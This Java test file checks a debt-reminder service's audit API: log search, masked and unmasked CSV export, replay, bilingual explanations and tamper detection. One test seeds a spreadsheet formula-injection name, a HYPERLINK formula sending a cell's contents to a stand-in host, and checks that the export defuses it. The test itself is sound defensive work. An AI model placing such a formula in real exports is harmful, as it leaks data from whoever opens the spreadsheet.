package dev.dunning.service;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.opencsv.CSVReader;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;

/** The decision log as a compliance reviewer uses it: search, export, replay, explain, verify, and catch tampering. */
@ActiveProfiles("demo")
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = "spring.datasource.url=jdbc:h2:mem:audit-api-test;DB_CLOSE_DELAY=-1")
class AuditApiTest {
    @Autowired
    TestRestTemplate http;
    @Autowired
    ObjectMapper json;
    @Autowired
    JdbcTemplate jdbc;

    @Test
    void anAuditorFindsDecisionsByAccountStepAndFiredRuleWithoutTheirContent() throws Exception {
        JsonNode decision = decide("search-1", "AUD-SEARCH");
        String rule = decision.at("/trace/firedRules/0/id").asText();
        JsonNode page = get("auditor", "/api/v1/audit/entries?accountId=AUD-SEARCH&step=SECOND_REMINDER&firedRule=" + rule);
        assertThat(page.path("total").asLong()).isEqualTo(1);
        JsonNode entry = page.at("/entries/0");
        assertThat(entry.path("subject").asText()).isEqualTo(decision.path("decisionId").asText());
        assertThat(entry.path("actor").asText()).isEqualTo("billing");
        assertThat(entry.path("ruleSetHash").asText()).isEqualTo(decision.at("/ruleSet/hash").asText());
        assertThat(entry.path("firedRules").toString()).contains(rule);
        assertThat(page.toString()).doesNotContain("刘先生");
        assertThat(get("auditor", "/api/v1/audit/entries?accountId=AUD-SEARCH&step=DEMAND_NOTICE").path("total").asLong()).isZero();
        assertThat(get("auditor", "/api/v1/audit/entries?accountId=AUD-SEARCH&firedRule=NO-SUCH-RULE").path("total").asLong()).isZero();
    }

    @Test
    void theDefaultPackImportIsInTheLogAsARuleSetStep() throws Exception {
        JsonNode page = get("auditor", "/api/v1/audit/entries?kind=RULE_SET_ACTIVATED");
        assertThat(page.at("/entries/0/actor").asText()).isEqualTo("system");
        assertThat(page.at("/entries/0/ruleSetHash").asText()).hasSize(64);
    }

    @Test
    void aSearchWithABadStepOrPageSizeNamesTheParameter() {
        ResponseEntity<String> badStep = call("auditor", HttpMethod.GET, "/api/v1/audit/entries?step=SHOUTING");
        assertThat(badStep.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(badStep.getBody()).contains("\"field\":\"step\"").contains("SHOUTING");
        ResponseEntity<String> badSize = call("auditor", HttpMethod.GET, "/api/v1/audit/entries?size=5000");
        assertThat(badSize.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(badSize.getBody()).contains("\"field\":\"size\"");
    }

    @Test
    void theExportMasksTheNameUnlessAnAuditorStatesAReasonAndEveryExportIsLogged() throws Exception {
        decide("export-1", "AUD-EXPORT");
        List<String[]> masked = csv(call("auditor", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-EXPORT"));
        assertThat(masked).hasSize(2);
        assertThat(column(masked, "customer_name")).isEqualTo("刘**");
        assertThat(column(masked, "content")).doesNotContain("刘先生").contains("\"name\":\"刘**\"", "刘**，您好");

        ResponseEntity<String> noReason = call("auditor", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-EXPORT&unmasked=true");
        assertThat(noReason.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(noReason.getBody()).contains("\"field\":\"reason\"");
        assertThat(call("admin", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-EXPORT&unmasked=true&reason=x")
                .getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);

        List<String[]> unmasked = csv(call("auditor", HttpMethod.GET,
                "/api/v1/audit/export?accountId=AUD-EXPORT&unmasked=true&reason=Court order 2026-118"));
        assertThat(column(unmasked, "customer_name")).isEqualTo("刘先生");
        JsonNode logged = get("auditor", "/api/v1/audit/entries?kind=AUDIT_EXPORT_UNMASKED");
        assertThat(logged.at("/entries/0/actor").asText()).isEqualTo("auditor");
        assertThat(jdbc.queryForObject("select content from audit_entry where seq = ?", String.class,
                logged.at("/entries/0/seq").asLong())).contains("Court order 2026-118").contains("AUD-EXPORT");
    }

    @Test
    void anUnmaskedSwitchOtherThanTrueOrFalseIsRefusedNamingItAndNothingIsExported() throws Exception {
        decide("switch-1", "AUD-SWITCH");
        String exports = "select count(*) from audit_entry where kind in ('AUDIT_EXPORT', 'AUDIT_EXPORT_UNMASKED')";
        long before = jdbc.queryForObject(exports, Long.class);
        for (String user : List.of("admin", "auditor")) {
            for (String value : List.of("1", "yes", "on", "TRUE", "true&unmasked=false")) {
                ResponseEntity<String> refused = call(user, HttpMethod.GET,
                        "/api/v1/audit/export?accountId=AUD-SWITCH&reason=Complaint&unmasked=" + value);
                assertThat(refused.getStatusCode()).as("%s unmasked=%s", user, value).isEqualTo(HttpStatus.BAD_REQUEST);
                assertThat(refused.getBody()).contains("\"field\":\"unmasked\"", "must be true or false").doesNotContain("刘先生");
            }
        }
        assertThat(jdbc.queryForObject(exports, Long.class)).isEqualTo(before);
        List<String[]> masked = csv(call("admin", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-SWITCH&unmasked=false"));
        assertThat(column(masked, "customer_name")).isEqualTo("刘**");
    }

    @Test
    void aNameThatASpreadsheetWouldRunIsExportedAsText() throws Exception {
        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")";
        ResponseEntity<String> decided = new DecisionCalls(http).post("billing", Examples.heatingBeijing()
                .replace("BJ-0001-2026-12-20", "formula-1").replace("\"BJ-0001\"", "\"AUD-FORMULA\"")
                .replace("\"刘先生\"", json.writeValueAsString(formula)));
        assertThat(decided.getStatusCode()).isEqualTo(HttpStatus.CREATED);
        List<String[]> unmasked = csv(call("auditor", HttpMethod.GET,
                "/api/v1/audit/export?accountId=AUD-FORMULA&unmasked=true&reason=Complaint 2026-119"));
        assertThat(column(unmasked, "customer_name")).isEqualTo("'" + formula);
        List<String[]> masked = csv(call("auditor", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-FORMULA"));
        assertThat(column(masked, "customer_name")).startsWith("'=*");
    }

    @Test
    void aReplayedDecisionIsIdenticalAndARangeReplayReportsEachDecision() throws Exception {
        JsonNode decision = decide("replay-1", "AUD-REPLAY");
        ResponseEntity<String> replay = call("auditor", HttpMethod.POST,
                "/api/v1/decisions/" + decision.path("decisionId").asText() + "/replay");
        assertThat(replay.getStatusCode()).isEqualTo(HttpStatus.OK);
        JsonNode result = json.readTree(replay.getBody());
        assertThat(result.path("identical").asBoolean()).isTrue();
        assertThat(result.path("ruleSetHash").asText()).isEqualTo(decision.at("/ruleSet/hash").asText());

        JsonNode report = json.readTree(call("auditor", HttpMethod.POST,
                "/api/v1/audit/replay?from=2000-01-01T00:00:00Z&to=2100-01-01T00:00:00Z").getBody());
        assertThat(report.path("replayed").asLong()).isPositive().isEqualTo(report.path("identical").asLong());
        assertThat(call("billing", HttpMethod.POST, "/api/v1/decisions/" + decision.path("decisionId").asText() + "/replay")
                .getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);
    }

    @Test
    void theCustomerGetsAnExplanationInChineseOrEnglish() throws Exception {
        String id = decide("explain-1", "AUD-EXPLAIN").path("decisionId").asText();
        JsonNode zh = get("billing", "/api/v1/decisions/" + id + "/explanation");
        assertThat(zh.path("text").asText()).contains("2035.20元").contains("个人信息保护法").doesNotContain("刘先生");
        JsonNode en = get("auditor", "/api/v1/decisions/" + id + "/explanation?language=en");
        assertThat(en.path("text").asText()).contains("2035.20 yuan").contains("Art 24").contains(id);
        ResponseEntity<String> french = call("billing", HttpMethod.GET, "/api/v1/decisions/" + id + "/explanation?language=fr");
        assertThat(french.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(french.getBody()).contains("\"field\":\"language\"");
    }

    @Test
    void verificationCatchesAnEntryChangedOrRemovedDirectlyInTheDatabase() throws Exception {
        decide("tamper-1", "AUD-TAMPER");
        decide("tamper-2", "AUD-TAMPER-2");
        assertThat(get("auditor", "/api/v1/audit/verify").path("intact").asBoolean()).isTrue();
        long seq = jdbc.queryForObject("select seq from audit_entry where request_id = 'tamper-1'", Long.class);

        jdbc.update("update audit_entry set step = 'NONE' where seq = ?", seq);
        JsonNode changed = get("auditor", "/api/v1/audit/verify");
        jdbc.update("update audit_entry set step = 'SECOND_REMINDER' where seq = ?", seq);
        assertThat(changed.path("intact").asBoolean()).isFalse();
        assertThat(changed.path("brokenAt").asLong()).isEqualTo(seq);
        assertThat(changed.path("problem").asText()).contains("columns were changed");

        String content = jdbc.queryForObject("select content from audit_entry where seq = ?", String.class, seq);
        jdbc.update("update audit_entry set content = ? where seq = ?", content.replace("2035.20", "35.20"), seq);
        JsonNode edited = get("auditor", "/api/v1/audit/verify");
        jdbc.update("update audit_entry set content = ? where seq = ?", content, seq);
        assertThat(edited.path("problem").asText()).contains("content was changed");

        assertThat(get("auditor", "/api/v1/audit/verify").path("intact").asBoolean()).isTrue();
    }

    @Test
    void concurrentDecisionsShareCommitsYetEachIsLoggedOnceInOneUnbrokenChain() throws Exception {
        String retried = Examples.heatingBeijing().replace("BJ-0001-2026-12-20", "burst-same");
        List<Integer> statuses;
        try (var callers = Executors.newFixedThreadPool(16)) {
            var answers = new ArrayList<Future<Integer>>();
            for (int i = 0; i < 64; i++) {
                String body = i % 4 == 0 ? retried : Examples.heatingBeijing().replace("BJ-0001-2026-12-20", "burst-" + i);
                answers.add(callers.submit(() -> new DecisionCalls(http).post("billing", body).getStatusCode().value()));
            }
            statuses = new ArrayList<>();
            for (var answer : answers) {
                statuses.add(answer.get());
            }
        }
        assertThat(statuses.stream().filter(s -> s == 201).count()).isEqualTo(48 + 1);
        assertThat(statuses.stream().filter(s -> s == 200).count()).isEqualTo(15);
        assertThat(jdbc.queryForObject("select count(*) from audit_entry where request_id like 'burst-%'", Integer.class))
                .isEqualTo(49);
        assertThat(get("auditor", "/api/v1/audit/verify").path("intact").asBoolean()).isTrue();
    }

    private JsonNode decide(String requestId, String accountId) throws Exception {
        ResponseEntity<String> response = new DecisionCalls(http).post("billing", Examples.heatingBeijing()
                .replace("BJ-0001-2026-12-20", requestId).replace("\"BJ-0001\"", "\"" + accountId + "\""));
        assertThat(response.getStatusCode()).isEqualTo(HttpStatus.CREATED);
        return json.readTree(response.getBody());
    }

    private JsonNode get(String user, String path) throws Exception {
        ResponseEntity<String> response = call(user, HttpMethod.GET, path);
        assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.OK);
        return json.readTree(response.getBody());
    }

    private ResponseEntity<String> call(String user, HttpMethod method, String path) {
        return http.withBasicAuth(user, user + "-demo").exchange(path, method, new HttpEntity<>(new HttpHeaders()), String.class);
    }

    private static List<String[]> csv(ResponseEntity<String> response) throws Exception {
        assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.OK);
        try (CSVReader reader = new CSVReader(new StringReader(response.getBody()))) {
            return reader.readAll();
        }
    }

    private static String column(List<String[]> rows, String name) {
        int index = List.of(rows.getFirst()).indexOf(name);
        return rows.get(1)[index];
    }
}
